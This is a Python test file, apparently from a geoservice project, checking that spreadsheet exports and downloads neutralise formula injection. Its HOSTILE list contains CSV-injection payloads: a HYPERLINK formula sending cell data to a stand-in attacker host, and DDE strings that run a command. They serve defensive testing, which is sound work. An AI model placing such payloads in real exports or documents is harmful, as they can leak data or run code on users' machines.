"""Exports and downloads never hand a spreadsheet a formula: text that would run is neutralised.

Points whose name and address start with each character a spreadsheet reads as a formula (``=``, ``+``, ``-``,
``@``, tab, carriage return) are inserted in the test's own transaction, exported as CSV, XLSX and GeoPackage, and
the files opened with independent readers: the csv module, openpyxl (no cell is a formula), pyogrio. The coverage
downloads (``f=csv`` and ``f=gpkg``) are checked the same way with street and grid names taken from the data.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from contextlib import contextmanager

import openpyxl
import pandas as pd
import pyogrio
import pytest
import sqlalchemy as sa
from flask import g
from hypothesis import given
from hypothesis import strategies as st

from geoservice import downloads, spreadsheet
from geoservice.ingest import export_file, import_file
from tests.conftest import checksum, demo_import_options

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1, "查看详情")',
    "=cmd|' /C calc'!A0",
    "+86 便民点",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 岗亭",
    "\r=1+1 岗亭",
    "'=已经带引号",
]
"""Names and addresses of the inserted points: each trigger character, and text that already starts with a quote."""
# The importer strips the whitespace around every text, so names starting with a tab or CR cannot come back as they
# were from any format; the round trip is checked on the others.
ROUND_TRIP = [text for text in HOSTILE if text[0] not in "\t\r"]


@pytest.mark.parametrize(("text", "cell"), [
    ("=1+1", "'=1+1"),
    ("+86 371 1234567", "'+86 371 1234567"),
    ("-x", "'-x"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("'=1", "''=1"),   # one more quote, so that the importer's one quote off gives the text back
    ("''-1", "'''-1"),
    ("-12.5", "-12.5"),  # a number in a text column is read as that number: nothing runs
    ("-", "'-"),
    ("三八路", "三八路"),
    ("a=b", "a=b"),
    ("'quoted'", "'quoted'"),
    ("", ""),
])
def test_neutralise_puts_a_quote_before_what_would_run(text, cell):
    assert spreadsheet.neutralise(text) == cell
    assert spreadsheet.restore(cell) == text


@given(st.text())
def test_restore_gives_back_every_neutralised_text(text):
    cell = spreadsheet.neutralise(text)
    assert spreadsheet.restore(cell) == text
    assert not spreadsheet.formula_like(cell)


@given(st.lists(st.one_of(st.text(), st.none(), st.integers(), st.floats(allow_nan=False)), min_size=1))
def test_frames_neutralise_text_only_and_restore_exactly(values):
    frame = pd.DataFrame({"mixed": pd.Series(values, dtype=object), "number": range(len(values))})
    neutral = spreadsheet.neutralise_frame(frame)
    assert list(neutral["number"]) == list(frame["number"])
    assert all(not spreadsheet.formula_like(v) for v in neutral["mixed"] if isinstance(v, str))
    assert all(a == b for a, b in zip(neutral["mixed"], frame["mixed"], strict=True)
               if not isinstance(a, str))  # numbers (negative ones too) and None stay as they are
    assert spreadsheet.restore_frame(neutral)["mixed"].tolist() == frame["mixed"].tolist()


def test_numbers_stay_numbers():
    assert spreadsheet.cell(-3.5) == -3.5 and spreadsheet.cell(-7) == -7 and spreadsheet.cell(None) is None
    frame = downloads._frame([{"geometry": {"type": "Point", "coordinates": [1, 2]},
                               "properties": {"code": "=A1", "covered_pct": -0.5, "points": -2}}],
                             ("code", "covered_pct", "points"), multi_lines=False)
    row = next(csv.DictReader(io.StringIO(downloads._csv_bytes(frame).decode("utf-8-sig"))))
    assert row == {"code": "'=A1", "covered_pct": "-0.5", "points": "-2", "wkt": "POINT (1 2)"}


# -- geoservice export --------------------------------------------------------------------------------------------

def insert_hostile_points(conn) -> dict[int, str]:
    """One point per hostile text (as name and address); their ids → text."""
    ids = {}
    for n, text in enumerate(HOSTILE):
        ids[conn.execute(sa.text(
            "INSERT INTO point (name, kind, address, phone, geom) VALUES (:t, 'kiosk', :t, '+86 374 2300001', "
            "ST_SetSRID(ST_MakePoint(113.82 + :n * 0.001, 34.02), 4326)) RETURNING id"), {"t": text, "n": n},
        ).scalar_one()] = text
    return ids


def test_csv_export_quotes_what_would_run(conn, tmp_path):
    ids = insert_hostile_points(conn)
    export_file(conn, "points", tmp_path / "points.csv")
    with open(tmp_path / "points.csv", encoding="utf-8", newline="") as fh:
        rows = {int(r["id"]): r for r in csv.DictReader(fh)}
    for point_id, text in ids.items():
        row = rows[point_id]
        assert row["name"] == row["address"] == spreadsheet.neutralise(text)
        assert row["name"].startswith("'")
        assert row["phone"] == "'+86 374 2300001"
    for row in rows.values():  # no cell of any row starts with what a spreadsheet runs
        assert not any(spreadsheet.formula_like(value) for value in row.values()), row


def test_xlsx_export_has_no_formula(conn, tmp_path):
    ids = insert_hostile_points(conn)
    export_file(conn, "points", tmp_path / "points.xlsx")
    sheet = openpyxl.load_workbook(tmp_path / "points.xlsx")["points"]
    header = [c.value for c in sheet[1]]
    assert header[:3] == ["id", "name", "kind"]
    seen = set()
    for row in sheet.iter_rows(min_row=2):
        assert all(c.data_type != "f" for c in row), [c.value for c in row]
        cells = dict(zip(header, row, strict=True))
        text = ids.get(cells["id"].value)
        if text is None:
            continue
        seen.add(cells["id"].value)
        for column in ("name", "address"):
            cell = cells[column]
            # A string cell, with Excel's quote prefix when it would run: shown as text, kept as text when edited.
            # XML turns a CR into a line feed on reading.
            assert (cell.data_type, cell.quotePrefix) == ("s", spreadsheet.formula_like(text))
            assert cell.value == text.replace("\r", "\n")
        assert cells["capacity"].value is None and cells["id"].data_type == "n"
    assert seen == set(ids)


def test_geopackage_export_quotes_attribute_text(conn, tmp_path):
    ids = insert_hostile_points(conn)
    export_file(conn, "points", tmp_path / "points.gpkg")
    frame = pyogrio.read_dataframe(tmp_path / "points.gpkg", layer="points").set_index("id")
    for point_id, text in ids.items():
        assert frame.at[point_id, "name"] == frame.at[point_id, "address"] == spreadsheet.neutralise(text)
    assert not frame["name"].map(spreadsheet.formula_like).any()


def test_geojson_export_keeps_the_text_as_it_is(conn, tmp_path):
    ids = insert_hostile_points(conn)
    export_file(conn, "points", tmp_path / "points.geojson")
    frame = pyogrio.read_dataframe(tmp_path / "points.geojson").set_index("id")
    assert {point_id: frame.at[point_id, "name"] for point_id in ids} == ids


@pytest.mark.parametrize("ext", ["csv", "xlsx", "gpkg"])
def test_hostile_text_round_trips(conn, tmp_path, ext):
    for n, text in enumerate(ROUND_TRIP):
        conn.execute(sa.text(
            "INSERT INTO point (name, kind, address, phone, geom) VALUES (:t, 'kiosk', :t, '+86 374 2300001', "
            "ST_SetSRID(ST_MakePoint(113.82 + :n * 0.001, 34.02), 4326))"), {"t": text, "n": n})
    before = checksum(conn)
    path = tmp_path / f"points.{ext}"
    export_file(conn, "points", path)
    result = import_file(conn, "points", path, options=demo_import_options(replace=True))
    assert result.rejected == []
    assert checksum(conn) == before


# -- coverage downloads -------------------------------------------------------------------------------------------

@contextmanager
def served_from(app, conn) -> Iterator:
    """A test client whose requests use ``conn`` (and so see the test's own uncommitted rows)."""
    with app.app_context():
        g.db_connection = conn
        try:
            yield app.test_client()
        finally:
            g.pop("db_connection", None)  # the fixture rolls it back and closes it


STREETS = "/api/v1/coverage/streets?radius=400&kind=kiosk"
GRIDS = "/api/v1/coverage/grids?radius=400&kind=kiosk"


def rename(conn, table: str, key: str, keys: list) -> dict:
    """Give rows of ``table`` the hostile names; key → new name."""
    names = dict(zip(keys, HOSTILE, strict=False))
    for value, name in names.items():
        conn.execute(sa.text(f"UPDATE {table} SET name = :name WHERE {key} = :key"), {"name": name, "key": value})
    return names


def csv_rows(body: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_uncovered_streets_csv_quotes_street_names(app, conn, tmp_path):
    with served_from(app, conn) as client:
        features = client.get(STREETS).get_json()["features"]
        names = rename(conn, "street", "id", [f["id"] for f in features[:len(HOSTILE)]])
        assert len(names) == len(HOSTILE)
        body = client.get(STREETS + "&f=csv").data
        gpkg = client.get(STREETS + "&f=gpkg").data
    rows = {int(r["id"]): r for r in csv_rows(body)}
    for street_id, name in names.items():
        assert rows[street_id]["name"] == spreadsheet.neutralise(name)
    assert not any(spreadsheet.formula_like(v) for r in rows.values() for v in r.values())
    (tmp_path / "streets.gpkg").write_bytes(gpkg)
    frame = pyogrio.read_dataframe(tmp_path / "streets.gpkg", layer="uncovered_streets").set_index("id")
    for street_id, name in names.items():
        assert frame.at[street_id, "name"] == spreadsheet.neutralise(name)


def test_grid_coverage_csv_quotes_grid_names(app, conn, tmp_path):
    codes = conn.execute(sa.text("SELECT code FROM grid ORDER BY code LIMIT :n"), {"n": len(HOSTILE)}).scalars().all()
    names = rename(conn, "grid", "code", codes)
    with served_from(app, conn) as client:
        body = client.get(GRIDS + "&f=csv").data
        gpkg = client.get(GRIDS + "&f=gpkg").data
        answer = client.get(GRIDS).get_json()["grids"]
    assert {g["code"]: g["name"] for g in answer if g["code"] in names} == names  # the JSON keeps the text
    rows = {r["code"]: r for r in csv_rows(body)}
    for code, name in names.items():
        assert rows[code]["name"] == spreadsheet.neutralise(name)
        assert float(rows[code]["covered_pct"]) >= 0  # numbers are written as numbers
    assert not any(spreadsheet.formula_like(v) for r in rows.values() for v in r.values())
    (tmp_path / "grids.gpkg").write_bytes(gpkg)
    frame = pyogrio.read_dataframe(tmp_path / "grids.gpkg", layer="grid_coverage").set_index("code")
    for code, name in names.items():
        assert frame.at[code, "name"] == spreadsheet.neutralise(name)
